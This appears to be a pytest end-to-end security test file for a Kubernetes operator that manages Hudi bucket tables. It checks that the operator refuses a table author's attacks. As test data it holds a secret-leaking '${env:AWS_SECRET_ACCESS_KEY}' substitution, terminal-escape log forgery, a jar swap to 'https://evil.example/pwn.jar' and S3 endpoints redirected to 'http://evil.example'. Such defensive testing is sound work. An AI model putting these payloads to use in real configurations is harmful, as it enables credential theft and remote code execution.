    assert world.cluster.jobs(LAKE) == []  # no SparkApplication at all, as the API server lists them
    assert world.cluster.config_maps(LAKE) == {}
    victims_as_they_were(world)
    world.operator.assert_alive()


def test_an_allowed_tuning_setting_and_secret_reach_the_spark_application(world: World) -> None:
    tuning = {
        "sparkConf": {"spark.sql.shuffle.partitions": "7", "spark.sql.adaptive.enabled": "false"},
        "hadoopConf": {"fs.s3a.connection.maximum": "32", "fs.s3a.endpoint.region": "eu-west-1"},
        "envFromSecrets": [{"name": "lake-s3"}],
    }
    world.create_as_author("tuned", spec("tuned", tuning))
    [app] = until(lambda: world.cluster.jobs(LAKE, "tuned"), 60, "the tuned table's plan job")
    body = app["spec"]
    assert body["sparkConf"].items() >= tuning["sparkConf"].items()
    assert body["hadoopConf"] == tuning["hadoopConf"]
    secrets = [{"secretRef": {"name": "lake-s3"}}]
    assert container(app, "driver")["envFrom"] == container(app, "executor")["envFrom"] == secrets
    assert body["driver"]["serviceAccount"] == body["executor"]["serviceAccount"] == "hudi-bucket-jobs"
    assert body["image"] == "hudi-bucket-operator-job:e2e"
    assert world.cluster.phase_is(LAKE, "tuned", "Planning")["phase"] == "Planning"  # held by no one: pending
    world.tried(
        "the author's own (allowed)", "tuning settings and the listed Secret", "plan job created with them"
    )


def test_a_reason_is_its_deciders_and_plain_text_as_the_api_server_admits_it(world: World) -> None:
    """The chart's admission policy: a reason (which kubectl hbt history prints and status.history keeps)
    names who gives it, and holds no control character nor '${'. Dry runs: nothing changes."""
    me = f"system:serviceaccount:{LAKE}:{AUTHOR}"

    def annotate(annotations: dict[str, str]) -> str:
        patch = {"metadata": {"annotations": annotations}}
        try:
            world.author.patch_namespaced_custom_object(
                API_GROUP, API_VERSION, LAKE, PLURAL, "tuned", patch, dry_run="All"
            )
        except client.ApiException as refused:
            return str(json.loads(refused.body)["message"])
        return ""

    forged = {REASON: "looks fine", DECIDED_BY: "someone-else"}
    said = until(lambda: annotate(forged), 60, "the admission policy to be in force")
    assert f"or its reason must name who makes it: set {DECIDED_BY} to {me}" in said
    world.tried("text a job or a view reads", "a reason naming someone else as who decided",
                "refused by the chart's admission policy")  # fmt: skip
    for what, reason in (("ESC[2J and a fake line", "ok\x1b[2J\nApproved by admin"),
                         ("${env:AWS_SECRET_ACCESS_KEY}", "see ${env:AWS_SECRET_ACCESS_KEY}")):  # fmt: skip
        said = annotate({REASON: reason, DECIDED_BY: me})
        assert f"{REASON} must hold no control characters" in said, said
        world.tried("text a job or a view reads", f"a reason holding {what}",
                    "refused by the chart's admission policy")  # fmt: skip
    assert annotate({REASON: "reviewed in CHG-1, ok für heute", DECIDED_BY: me}) == ""


def test_a_substitution_in_the_uri_reaches_no_job_through_local_apply_with_the_hudi_engine(
    tmp_path: Path,
) -> None:
    """The local mode, a planted secret in its environment, Hudi's engine: the spec is refused before
    any job, and the planted value is nowhere in what it printed or kept."""
    planted = "pl4nted-aws-s3cret"
    tables = [
        {**spec("t"), "table": {"uri": str(tmp_path / "${env:AWS_SECRET_ACCESS_KEY}")}, "engine": "Hudi"},
        {**spec("t"), "table": {"uri": str(tmp_path / "t")}, "engine": "Hudi",
         "buckets": {"default": 2, "rules": [{"pattern": "[${env:AWS_SECRET_ACCESS_KEY}]", "buckets": 2}]}},
    ]  # fmt: skip
    manifests = tmp_path / "tables.yaml"
    manifests.write_text(
        "\n---\n".join(
            json.dumps({"apiVersion": f"{API_GROUP}/{API_VERSION}", "kind": "HudiBucketTable",
                        "metadata": {"name": f"t{i}", "namespace": LAKE}, "spec": table})
            for i, table in enumerate(tables)
        )
    )  # fmt: skip
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path),
        "AWS_SECRET_ACCESS_KEY": planted,
        "HBO_ALLOWED_TABLE_URIS": json.dumps({LAKE: [str(tmp_path)]}),
        **{k: os.environ[k] for k in ("HBO_HUDI_BUNDLE", "HBO_JVM_JAR") if k in os.environ},
    }
    state = tmp_path / "state"
    ran = subprocess.run(
        [str(OPERATOR_BIN), "local", "apply", "-f", str(manifests), "--state-dir", str(state)],
        env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert ran.returncode == 1, ran.stderr  # stalled
    said = ran.stdout + ran.stderr
    assert said.count("spec.table.uri must not hold '${'") >= 1, said
    assert "spec.buckets.rules[0].pattern must not hold '${'" in said, said
    assert "started" not in said  # no job, so no job's report
    assert not list(state.rglob("*.json"))
    kept = "".join(p.read_text() for p in state.rglob("*") if p.is_file())
    assert planted not in said + kept
    assert not list(tmp_path.glob(f"*{planted}*"))


# --- writers: the operator pauses only what its owner lets a table pause -----------------------------------

PLAN = Plan(
    BucketRules.parse("11-11,6", 2),
    None,
    (PartitionChange("day=2025-11-11", 2, 6, 2, 40, 4000, ChangeReason.RESCALE),),
    "20261127000000000",
)


def complete_plan(world: World, table: str) -> None:
    """The Spark Operator's part: the table's plan job done, with the report its job would write."""
    [app] = until(lambda: world.cluster.jobs(LAKE, table), 60, f"{table}'s plan job")
    name = app["metadata"]["name"]
    result = PlanResult(PLAN.reported(), {}).to_dict()
    report = JobReport(
        JobKind.PLAN, f"s3a://lake/warehouse/{table}", Outcome.SUCCEEDED, "planned", "t0", "t1", result,
        table_buckets=TableBuckets(),
    )  # fmt: skip
    world.cluster.core.create_namespaced_config_map(
        LAKE,
        client.V1ConfigMap(
            metadata=client.V1ObjectMeta(name=name), data={ConfigMapReport.KEY: report.to_json().decode()}
        ),
    )
    status = {
        "applicationState": {"state": "COMPLETED"},
        "driverInfo": {"podName": f"{name}-driver"},
        "submissionAttempts": 1,
        "lastSubmissionAttemptTime": "2026-11-27T00:00:00Z",
    }
    world.cluster.custom.patch_namespaced_custom_object_status(
        *SPARK_APPLICATIONS[:2], LAKE, SPARK_APPLICATIONS[2], name, {"status": status}
    )


def writers_spec(name: str, *workloads: dict[str, str], quiesce: str = "30m") -> dict[str, Any]:
    return spec(
        name,
        apply={"policy": "Automatic", "window": open_window()},
        writers={"quiesceTimeout": quiesce, "workloads": list(workloads)},
    )


# How the author would have the operator patch the other team's FlinkDeployment: its jar, the author's.
JAR_SWAP = {"apiVersion": "flink.apache.org/v1beta1", "suspend": {"path": "spec.job.jarURI",
            "suspended": "https://evil.example/pwn.jar", "running": "x", "stoppedPath": "status.x", "stopped": ["x"]}}  # fmt: skip


@pytest.mark.parametrize(
    ("table", "workload"),
    [
        ("pause-payments", {"kind": "Deployment", "name": VICTIM_DEPLOYMENT}),
        ("swap-payments-jar", {"kind": "FlinkDeployment", "name": VICTIM_FLINK, **JAR_SWAP}),
    ],
)
def test_a_workload_whose_owner_did_not_consent_is_never_touched(
    world: World, table: str, workload: dict[str, Any]
) -> None:
    world.create_as_author(table, writers_spec(table, workload))
    # How a kind is suspended is no table's to say: the API server keeps only the kind and the name.
    stored = world.cluster.table(LAKE, table)["spec"]["writers"]["workloads"]
    assert stored == [{"kind": workload["kind"], "name": workload["name"]}]
    complete_plan(world, table)
    held, events = stalled_once(world, table)
    assert held["reason"] == "WriterNotConsented", held
    assert f"{WRITER_OF}={table}" in held["message"]
    reasons = {e.split(":")[0] for e in events}  # in no particular order
    assert "WriterNotConsented" in reasons
    assert not reasons & {"PausingWriters", "WritersPaused", "WritersResumed"}
    victims_as_they_were(world)
    assert world.cluster.job_kinds(LAKE, table) == ["plan"]  # no apply
    attack = f"{workload['kind']} {workload['name']} named as a writer" + (
        ", its suspend field the jar" if "suspend" in workload else ""
    )
    pruned = "suspend pruned by the API server; " if "suspend" in workload else ""
    world.tried("writers (another team's)", attack, f"{pruned}Stalled, WriterNotConsented: nothing touched")


def test_a_workload_consenting_to_another_table_is_never_touched(world: World) -> None:
    world.cluster.apps.create_namespaced_deployment(
        LAKE, deployment("orders-ingest", 2, {WRITER_OF: "orders"})
    )
    world.create_as_author(
        "not-orders", writers_spec("not-orders", {"kind": "Deployment", "name": "orders-ingest"})
    )
    complete_plan(world, "not-orders")
    held, _ = stalled_once(world, "not-orders")
    assert held["reason"] == "WriterNotConsented"
    assert world.cluster.apps.read_namespaced_deployment_scale("orders-ingest", LAKE).spec.replicas == 2
    world.tried(
        "writers (another team's)", "a Deployment consenting to another table", "Stalled, WriterNotConsented"
    )


def flink_state(name: str, world: World) -> str:
    found = world.cluster.custom.get_namespaced_custom_object(*FLINK[:2], LAKE, FLINK[2], name)
    return str(found["spec"]["job"]["state"])


def test_a_spec_that_crashed_the_old_operator_resumes_the_paused_writer_and_stalls(world: World) -> None:
    """A consenting FlinkDeployment is suspended as the admins declared (its status never says it
    stopped: no Flink runs here, so the pause waits); the author then makes the spec one that crashed
    the old operator. The writer is resumed, the table stalls saying why, the operator goes on."""
    world.cluster.custom.create_namespaced_custom_object(
        *FLINK[:2], LAKE, FLINK[2], flink_deployment("ingest-cdc", {WRITER_OF: "crashing"})
    )
    world.create_as_author(
        "crashing", writers_spec("crashing", {"kind": "FlinkDeployment", "name": "ingest-cdc"})
    )
    complete_plan(world, "crashing")
    until(lambda: flink_state("ingest-cdc", world) == "suspended", 60, "ingest-cdc suspended by the operator")
    assert world.cluster.status(LAKE, "crashing")["phase"] == "PausingWriters"
    world.patch_as_author(
        "crashing", {"spec": {"buckets": {"rules": [{"pattern": NESTED[:512], "buckets": 2}]}}}
    )
    until(lambda: flink_state("ingest-cdc", world) == "running", 60, "ingest-cdc resumed")
    held, _ = stalled_once(world, "crashing")
    assert held["reason"] == "InvalidSpec"
    until(
        lambda: "WritersResumed" in [e.split(":")[0] for e in world.cluster.events(LAKE, "crashing")],
        30,
        "the WritersResumed event (Kopf posts events in the background)",
    )
    victims_as_they_were(world)
    world.create_as_author("after-the-crash", spec("after-the-crash"))
    until(lambda: world.cluster.jobs(LAKE, "after-the-crash"), 60, "the next table's plan job")  # still going
    world.operator.assert_alive()
    world.tried("crash specs", "made crashing while its writer was paused",
                "writer resumed (API server), Stalled InvalidSpec, the next table planned")  # fmt: skip


def test_an_apply_past_the_admins_deadline_is_cancelled_and_its_writer_resumed(world: World) -> None:
    """The apply's SparkApplication is never run (no Spark Operator here, as when its pods cannot be
    scheduled): at writers.applyDeadline (1m) the operator deletes it and resumes the writer."""
    world.cluster.apps.create_namespaced_deployment(LAKE, deployment("stuck-ingest", 2, {WRITER_OF: "stuck"}))
    world.create_as_author("stuck", writers_spec("stuck", {"kind": "Deployment", "name": "stuck-ingest"}))
    complete_plan(world, "stuck")

    def scale() -> int:  # a Scale's spec leaves replicas out when 0
        return int(
            world.cluster.apps.read_namespaced_deployment_scale("stuck-ingest", LAKE).spec.replicas or 0
        )

    until(lambda: scale() == 0, 60, "stuck-ingest paused")
    until(lambda: world.cluster.job_kinds(LAKE, "stuck") == ["plan", "apply"], 60, "the apply job")
    until(lambda: scale() == 2, 150, "stuck-ingest resumed at the deadline")
    held, _ = stalled_once(world, "stuck")
    assert held["reason"] == "ApplyDeadlineExceeded", held
    until(lambda: world.cluster.job_kinds(LAKE, "stuck") == ["plan"], 60, "the apply job deleted")
    world.tried("bounds", "an apply that never runs, its writer paused",
                "cancelled at writers.applyDeadline, writer resumed, Stalled ApplyDeadlineExceeded")  # fmt: skip


def test_no_planted_value_is_in_any_tables_status_or_events(world: World) -> None:
    tables = world.cluster.custom.list_namespaced_custom_object(API_GROUP, API_VERSION, LAKE, PLURAL)["items"]
    statuses = json.dumps([t.get("status") for t in tables])
    events = json.dumps(
        [e.to_dict() for e in world.cluster.core.list_namespaced_event(LAKE).items], default=str
    )
    for planted in (PLANTED_SECRET, PLANTED_VALUE):
        assert planted not in statuses
        assert planted not in events
    world.tried("values", "planted values searched for in every status and event", "none found")


def test_helm_upgrade_with_a_wider_allow_list_lets_the_added_settings_through(world: World) -> None:
    world.cluster.install_chart(RELEASE, RELEASE_NS, chart_values(**WIDER), upgrade=True)
    _, container = world.cluster.deployment_container(RELEASE_NS, RELEASE)
    env = {e["name"]: e.get("value") for e in container["env"]}
    assert (env["HBO_ALLOWED_HADOOP_CONF"], env["HBO_ALLOWED_SERVICE_ACCOUNTS"]) == (
        "fs.s3a.endpoint,fs.s3a.",
        "lake-spark",
    )
    world.restart_operator()  # as the Deployment's rollout would

    def jobs_of_the_let_through() -> dict[str, dict[str, Any]] | None:
        apps = {
            a["metadata"]["labels"]["hudi.bucketops.io/table"]: a["spec"] for a in world.cluster.jobs(LAKE)
        }
        return apps if apps.keys() >= LET_THROUGH else None

    apps = until(jobs_of_the_let_through, 60, f"plan jobs of {sorted(LET_THROUGH)}")
    assert apps["endpoint"]["hadoopConf"] == {"fs.s3a.endpoint": "http://evil.example"}
    assert (
        apps["endpoint-in-spark-conf"]["sparkConf"]["spark.hadoop.fs.s3a.endpoint"] == "http://evil.example"
    )
    assert apps["lake-spark"]["driver"]["serviceAccount"] == apps["lake-spark"]["executor"]["serviceAccount"]
    assert apps["lake-spark"]["driver"]["serviceAccount"] == "lake-spark"
    time.sleep(3 * RESYNC)
    for _, name, _, reason, _ in STALLED:
        if name in LET_THROUGH:
            continue
        # The rest still stalled, the admins' "spark." prefix notwithstanding (it admits no key refused for
        # a reason: code, mounts, the pods); each told once, the restart notwithstanding; but the account
        # refused is told again, as its message now names the account the admins added.
        assert world.cluster.status(LAKE, name)["phase"] == "Stalled"
        told = world.cluster.events(LAKE, name)
        assert [e.split(":")[0] for e in told] == [reason] * (2 if name == "cluster-admin" else 1), told
        assert name not in apps
    assert any(
        "'hudi-bucket-jobs' and ['lake-spark']" in e for e in world.cluster.events(LAKE, "cluster-admin")
    )
    world.tried("admins' prefixes", "allowedSparkConf [spark.]: jars, mounts, agents, node selectors",
                "still Stalled: a prefix admits no key refused for a reason")  # fmt: skip
    world.tried("admins' prefixes", "[spark.], [fs.s3a.]: repl class URI, user class path first, plugins, cache "
                "serializer, Python modules, redaction, event log dir, metrics conf, S3A audit, delegation, "
                "credential path, encryption key", "still Stalled: a prefix admits vetted tuning only")  # fmt: skip
    world.operator.assert_alive()


def test_the_default_chart_allows_no_table_until_its_location_is_named(world: World) -> None:
    values = chart_values(**WIDER)
    del values["jobs"]["allowedTableUris"]  # the chart's own default: none
    world.cluster.install_chart(RELEASE, RELEASE_NS, values, upgrade=True)
    _, container = world.cluster.deployment_container(RELEASE_NS, RELEASE)
    assert {e["name"]: e.get("value") for e in container["env"]}["HBO_ALLOWED_TABLE_URIS"] == "{}"
    world.restart_operator()
    world.create_as_author("no-location-named", spec("no-location-named"))
    held, _ = stalled_once(world, "no-location-named")
    assert held["reason"] == "TableUriNotAllowed"
    assert "the admins allow them nowhere yet" in held["message"]
    assert world.cluster.job_kinds(LAKE, "no-location-named") == []
    world.tried("table URIs", "a table under the chart's default values",
                "Stalled, TableUriNotAllowed: the admins allow them nowhere yet")  # fmt: skip
    world.operator.assert_alive()


def test_the_attacks_tried_and_their_outcomes(world: World) -> None:
    """The table of attacks, each outcome as read from the API server (printed; -s shows it)."""
    lines = ["| group | attack | outcome (from the API server) |", "|---|---|---|"]
    for group, tried in world.attacks.items():
        lines += [f"| {group} | {attack} | {outcome} |" for attack, outcome in tried]
    table = "\n".join(lines)
    (world.work / "attacks.md").write_text(table + "\n")
    count = sum(len(t) for t in world.attacks.values())
    print(f"\n{count} attacks tried:\n{table}")
    shown.show(f"A table author's attacks on the real API server ({count}), and their outcomes", table)
    assert sum(len(t) for t in world.attacks.values()) >= 70
